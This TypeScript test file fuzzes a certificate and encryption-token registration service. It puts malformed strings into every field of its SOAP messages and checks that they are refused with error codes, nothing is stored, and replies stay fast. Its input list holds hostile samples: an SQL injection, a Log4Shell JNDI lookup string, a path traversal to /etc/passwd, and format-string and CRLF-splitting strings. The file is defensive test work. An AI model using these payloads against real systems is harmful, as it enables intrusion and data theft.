/** Messages that their schema lets through and that make no sense: refused with codes, never by an accident. */
import { CERTRA_OPERATIONS, ETK_DEPOT_OPERATIONS, ETKRA_OPERATIONS } from '@vesalius/protocols'
import type { XmlElement } from '@vesalius/xml'
import { describe, expect, it } from 'vitest'
import {
  CONTACT,
  certificateRequest,
  enrol,
  forOrganization,
  newApplicant,
  newOrganization,
} from '../fixtures/applicants.ts'
import { storingNothing } from '../fixtures/stored-rows.ts'
import type { RequestSigning } from '../fixtures/wire-client.ts'
import { applicant, platform, request } from './bench.ts'

const { generateCertificate, generateContract } = CERTRA_OPERATIONS

const LONG = process.env.LONG === '1'

export function refuseNonsense(): void {
  describe('a message that its schema lets through and that makes no sense', () => {
    const nonsense = [
      '',
      ' ',
      '\u00a0',
      'x'.repeat(200_000),
      '\u{10FFFD}',
      '\uFEFF',
      '\u202E\u0301',
      '😀'.repeat(1000),
      'ﷺ',
      '<b>&amp;</b>',
      "Robert'); drop table natural_person;--",
      ['$', '{jndi:ldap://192.0.2.1/a}'].join(''),
      '../../../../etc/passwd',
      '%00%n%s',
      '\r\n\r\nHTTP/1.1 200',
      '-0',
      'null',
    ]

    it('is refused with codes, wherever text can stand: never an accident, never stored', async () => {
      const message = generateCertificate.writeRequest({ head: platform.client.head(), ...request })
      const places = textPlaces(message)
      expect(places.length).toBeGreaterThan(8)
      for (const [index, place] of places.entries()) {
        // all of them at every place would take minutes: each place gets a few, all together get all
        const some = LONG ? nonsense : nonsense.filter((_, at) => (at + index) % 4 === 0)
        for (const text of some) {
          const spoiled = await platform.client.enclose(
            generateCertificate,
            withNewId(withText(message, place, text)),
            applicant.signature,
          )
          const { result } = await storingNothing(platform.deps.database, () => platform.client.send(spoiled))
          if (result.kind === 'fault') {
            expect(result.fault.soaCode, `${place.join('/')} ${text.slice(0, 20)}`).toMatch(/^SOA-0300[67]$/)
          } else {
            const { outcome } = generateCertificate.readResponse(result.payload)
            expect(outcome.kind, `${place.join('/')} ${text.slice(0, 20)}`).toBe('failure')
          }
        }
      }
    }, 120_000)

    it('is answered by every other operation as well: with codes or a fault, never with an accident', async () => {
      const manager = await newApplicant(platform)
      const holder = await enrol(platform.client, manager)
      const { publicKeyIdentifier } = holder.receipt
      const organization = { type: 'CBE', value: '0345678997' }
      const contractOfRevocation = await platform.client.succeed(
        CERTRA_OPERATIONS.generateRevocationContract,
        {
          ...{ publicKeyIdentifier, signer: manager.actor, reason: 'superseded' },
        },
      )
      const head = platform.client.head()
      const certra = CERTRA_OPERATIONS
      const etkra = ETKRA_OPERATIONS
      const { authentication, signature } = manager
      const messages: readonly (readonly [AnyOperation, XmlElement, RequestSigning?])[] = [
        [
          certra.generateContract,
          certra.generateContract.writeRequest({
            ...{ head, contactData: { ...CONTACT, emailGeneral: 'a@example.org', phoneGeneral: '02' } },
            signer: manager.actor,
            certificateIdentifier: forOrganization({ ...organization, name: 'x' }, 'LAB'),
          }),
        ],
        [certra.getCertificate, certra.getCertificate.writeRequest({ head, publicKeyIdentifier })],
        [
          certra.getExistingApplicationIds,
          certra.getExistingApplicationIds.writeRequest({ head, organization }),
        ],
        [
          certra.generateRevocationContract,
          certra.generateRevocationContract.writeRequest({
            ...{ head, publicKeyIdentifier, signer: manager.actor, reason: 'superseded' },
          }),
        ],
        [
          certra.submitCSRForForeigner,
          certra.submitCSRForForeigner.writeRequest({
            ...{ head, foreignPerson: manager.actor, contactData: CONTACT, csr: request.csr },
          }),
        ],
        [
          certra.getActorQualities,
          certra.getActorQualities.writeRequest({ head, ssin: manager.actor.identifier }),
          authentication,
        ],
        [
          certra.revoke,
          certra.revoke.writeRequest({ head, publicKeyIdentifier, contract: contractOfRevocation }),
          signature,
        ],
        [
          etkra.startETKRegistration,
          etkra.startETKRegistration.writeRequest({ head, publicEncryptionKey: holder.keys.spki }),
          holder.signing,
        ],
        [
          etkra.completeETKRegistration,
          etkra.completeETKRegistration.writeRequest({ head, toBeRegistered: request.csr }),
          holder.signing,
        ],
        [
          ETK_DEPOT_OPERATIONS.GetEtk,
          ETK_DEPOT_OPERATIONS.GetEtk.writeRequest({
            searchCriteria: [{ ...organization, applicationId: 'LAB' }],
          }),
        ],
      ]
      for (const [operation, message, signing] of messages) {
        const places = [...textPlaces(message).map(place => ({ place })), ...attributePlaces(message)]
        for (const [index, where] of places.entries()) {
          for (const text of LONG ? nonsense : nonsense.filter((_, at) => (at + index) % 4 === 0)) {
            const spoiled = withNewId(
              'attribute' in where
                ? withAttribute(message, where.place, where.attribute, text)
                : withText(message, where.place, text),
            )
            const exchanged = await platform.client.send(
              await platform.client.enclose(operation as typeof generateContract, spoiled, signing),
            )
            if (exchanged.kind === 'fault') {
              expect(
                exchanged.fault.soaCode,
                `${message.name} ${where.place.join('/')} ${text.slice(0, 20)}`,
              ).toMatch(/^SOA-0300[67]$/)
            }
          }
        }
      }
      // none of it revoked anything or registered a token
      const infos = await platform.client.succeed(certra.getCertificateInfoForCitizen, {}, authentication)
      expect(infos).toMatchObject([{ certificateStatus: 'active', etkStatus: 'not-requested' }])
    }, 240_000)

    it('costs no more for being made to cost: words, dots, escapes, digits by the hundred thousand', async () => {
      const manager = await newApplicant(platform)
      const holder = forOrganization(await newOrganization(platform, [manager]), 'LAB')
      const { request: asked } = await certificateRequest(platform.client, manager, { holder })
      const head = platform.client.head()
      const messages = [
        [generateCertificate, generateCertificate.writeRequest({ head, ...asked }), manager.signature],
        [
          generateContract,
          generateContract.writeRequest({
            ...{ head, contactData: CONTACT, signer: manager.actor, certificateIdentifier: holder },
          }),
          undefined,
        ],
      ] as const
      for (const [operation, message, signing] of messages) {
        for (const [index, place] of textPlaces(message).entries()) {
          const pieces = ['A ', 'a.', '=,', '\\\\', '7', '1 ', '\u0301', 'SSIN=1 ']
          for (const piece of pieces.filter((_, at) => LONG || (at + index) % 4 === 0)) {
            const text = piece.repeat(150_000 / piece.length)
            const spoiled = withNewId(withText(message, place, text))
            const sent = await platform.client.enclose(operation as typeof generateContract, spoiled, signing)
            const started = performance.now()
            await platform.client.send(sent)
            const took = performance.now() - started
            expect(took, `${place.join('/')} ${piece}`).toBeLessThan(3000)
          }
        }
      }
    }, 240_000)

    it('was never an accident of ours', () => {
      expect(platform.log.filter(line => line.includes('SOA-00001'))).toEqual([])
    })
  })
}

/** Ways to the text nodes of a message. */
function textPlaces(of: XmlElement, way: readonly number[] = []): readonly (readonly number[])[] {
  return of.children.flatMap((child, index) =>
    typeof child === 'string' ? [way] : textPlaces(child, [...way, index]),
  )
}

/** Attributes of a message, its own Id apart, which every message gets anew. */
function attributePlaces(
  of: XmlElement,
  way: readonly number[] = [],
): readonly { readonly place: readonly number[]; readonly attribute: string }[] {
  const own = of.attributes
    .filter(({ name }) => name !== 'Id')
    .map(({ name }) => ({ place: way, attribute: name }))
  const below = of.children.flatMap((child, index) =>
    typeof child === 'string' ? [] : attributePlaces(child, [...way, index]),
  )
  return [...own, ...below]
}

function withAttribute(
  of: XmlElement,
  [next, ...rest]: readonly number[],
  name: string,
  value: string,
): XmlElement {
  if (next === undefined) {
    return { ...of, attributes: of.attributes.map(one => (one.name === name ? { ...one, value } : one)) }
  }
  return {
    ...of,
    children: of.children.map((child, index) =>
      index === next && typeof child !== 'string' ? withAttribute(child, rest, name, value) : child,
    ),
  }
}

function withText(of: XmlElement, [next, ...rest]: readonly number[], text: string): XmlElement {
  if (next === undefined) return { ...of, children: [text] }
  return {
    ...of,
    children: of.children.map((child, index) =>
      index === next && typeof child !== 'string' ? withText(child, rest, text) : child,
    ),
  }
}

function withNewId(message: XmlElement): XmlElement {
  const { id } = platform.client.head()
  return {
    ...message,
    attributes: message.attributes.map(one => (one.name === 'Id' ? { ...one, value: id } : one)),
  }
}

type AnyOperation = Pick<typeof generateContract, 'requestElement'>
